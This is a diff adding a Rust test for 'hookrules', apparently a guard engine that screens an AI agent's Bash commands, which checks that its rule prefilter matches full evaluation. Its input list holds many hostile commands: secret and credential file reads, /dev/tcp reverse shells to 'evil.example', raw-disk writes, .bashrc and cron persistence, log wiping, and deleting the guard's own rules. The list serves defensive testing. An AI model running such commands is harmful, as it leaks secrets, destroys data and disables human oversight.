@@ -1,0 +1,170 @@
+//! The prefilter only leaves out rules that cannot match: evaluating an event's
+//! whole bucket and evaluating only the candidates the prefilter keeps (with
+//! the paths commands name, as `run` does) give the same contributions and
+//! errors. Checked on every command of the corpus and on commands that reach
+//! the pack's path lists indirectly (a `cd` first, `..`, `~`, `$HOME`, case,
+//! redirections, devices, expansions the shell model cannot know), with a
+//! home and a project folder so every form of a path (`~/…`,
+//! `$PROJECT_DIR/…`) is in play.
+
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+
+use hookrules::compile::set::{CompiledSet, Query};
+use hookrules::contract::Event;
+use hookrules::eval::{evaluate, trace::NoTrace, Ctx};
+use hookrules::os::clock::Now;
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn corpus_commands() -> Vec<String> {
+    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("tests/corpus"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.extension().is_some_and(|e| e == "toml"))
+        .collect();
+    files.sort();
+    let mut out = vec![];
+    for f in &files {
+        let corpus: toml::Table = toml::from_str(&std::fs::read_to_string(f).unwrap()).unwrap();
+        for case in corpus["case"].as_array().unwrap() {
+            if let Some(c) = case.get("command").and_then(|c| c.as_str()) {
+                out.push(c.to_string());
+            }
+        }
+    }
+    out
+}
+
+/// Paths the pack's lists judge, named the ways a command can name them
+/// without spelling out the literal a list requires.
+const INDIRECT: &[&str] = &[
+    "npm test -- --watch=false",
+    "cd ~ && cat .env",
+    "cd ~/.ssh; cat id_rsa",
+    "cd /; cat etc/shadow",
+    "cd /etc && tee passwd < x",
+    "cd /home/dev/proj/sub && cat ../.env",
+    "cat ./sub/../.env.local",
+    "cat $HOME/.aws/credentials",
+    "cat \"${HOME}/.ssh/id_ed25519\"",
+    "cat ~/.SSH/ID_RSA",
+    "cat .ENV",
+    "cat .Env.Production",
+    "CAT .env",
+    "cat < .env",
+    "cat 0<.env",
+    "while read l; do echo $l; done < .env",
+    "cat $X/.env",
+    "cat $(pwd)/.env",
+    "cat `echo .env`",
+    "less .e*",
+    "cat .en?",
+    "cp .env /tmp/x",
+    "tee /dev/sda < image",
+    "cd /dev && tee sda < image",
+    "cd /dev; echo x | tee nvme0n1",
+    "echo x > /dev/sdb",
+    "cd / && echo x > dev/sdc",
+    "exec 3<>/dev/tcp/10.0.0.1/4444",
+    "cat < /dev/tcp/evil.example/80",
+    "cd /dev/tcp && cat host/80",
+    "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
+    "echo 'alias ls=rm' >> ~/.bashrc",
+    "cd ~ && echo x >> .bashrc",
+    "cd ~/.config && touch hookrules/x.toml",
+    "rm -rf .claude/hookrules",
+    "cd .claude && rm -rf hookrules",
+    "tee .claude/settings.json < x",
+    "cd ~/.local/state && rm -rf hookrules",
+    "touch ../../etc/cron.d/job",
+    "cd /usr/local && touch bin/x",
+    "cd /etc; sed -i s/a/b/ hosts",
+    "truncate -s 0 /var/log/syslog",
+    "cd /var && truncate -s 0 log/syslog",
+    "ln -s /etc/passwd x && cat x",
+    "find . -name '*.pem' -exec cat {} +",
+    "xargs cat < list.txt",
+    "cat $(cat files.txt)",
+    "cd \"$PROJECT_DIR\" && cat .env",
+    "cat /proc/self/environ",
+    "cd /proc/self && cat environ",
+    "cat ~/.kube/config",
+    "cat terraform.tfstate",
+    "cat secrets.yaml",
+    "cat id_rsa",
+    "cat ~/.netrc",
+    "cat /etc/ssl/private/key.pem",
+    "unparsable $(",
+    "cat 'unterminated",
+];
+
+fn outcome(set: &CompiledSet, event: &Event, ctx: &Ctx, prefilter: bool) -> String {
+    let query = Query {
+        prefilter,
+        explain: false,
+    };
+    let compiled = if prefilter {
+        set.for_event_with(event, query, Some(ctx))
+    } else {
+        set.for_event(event, query)
+    };
+    let o = evaluate(&compiled, event, ctx, &mut NoTrace);
+    format!("{:?}\n{:?}", o.contributions, o.errors)
+}
+
+#[test]
+fn the_prefilter_leaves_out_only_rules_that_cannot_match() {
+    let set = CompiledSet::build(&hookrules::policy::discover::builtin());
+    let mut env = BTreeMap::new();
+    env.insert("HOME".to_string(), "/home/dev".to_string());
+    env.insert(
+        "CLAUDE_PROJECT_DIR".to_string(),
+        "/home/dev/proj".to_string(),
+    );
+    let corpus = corpus_commands();
+    assert!(corpus.len() > 1000, "the corpus: {}", corpus.len());
+    // The corpus from the project; the indirect commands from three places.
+    let mut cases: Vec<(&str, &str)> = corpus
+        .iter()
+        .map(|c| ("/home/dev/proj", c.as_str()))
+        .collect();
+    for cwd in ["/home/dev/proj", "/home/dev", "/"] {
+        cases.extend(INDIRECT.iter().map(|c| (cwd, *c)));
+    }
+    let mut left_out = 0;
+    {
+        for &(cwd, cmd) in &cases {
+            let json = serde_json::json!({
+                "hook_event_name": "PreToolUse", "tool_name": "Bash",
+                "tool_input": {"command": cmd}, "session_id": "s", "cwd": cwd,
+            });
+            let event = Event::parse(json.to_string().as_bytes()).unwrap();
+            let ctx = Ctx::from_env(&event, env.clone(), Now::at(1_763_700_000));
+            let all = outcome(&set, &event, &ctx, false);
+            let some = outcome(&set, &event, &ctx, true);
+            assert_eq!(some, all, "{cmd:?} in {cwd}");
+            let query = Query {
+                prefilter: true,
+                explain: false,
+            };
+            let kept: usize = set
+                .for_event_with(&event, query, Some(&ctx))
+                .buckets
+                .iter()
+                .map(|b| b.rules.len())
+                .sum();
+            let whole: usize = set
+                .for_event(&event, Query::default())
+                .buckets
+                .iter()
+                .map(|b| b.rules.len())
+                .sum();
+            left_out += whole - kept;
+        }
+    }
+    // The prefilter does leave rules out (else this test proves nothing).
+    assert!(left_out > cases.len(), "{left_out} rules left out");
+}
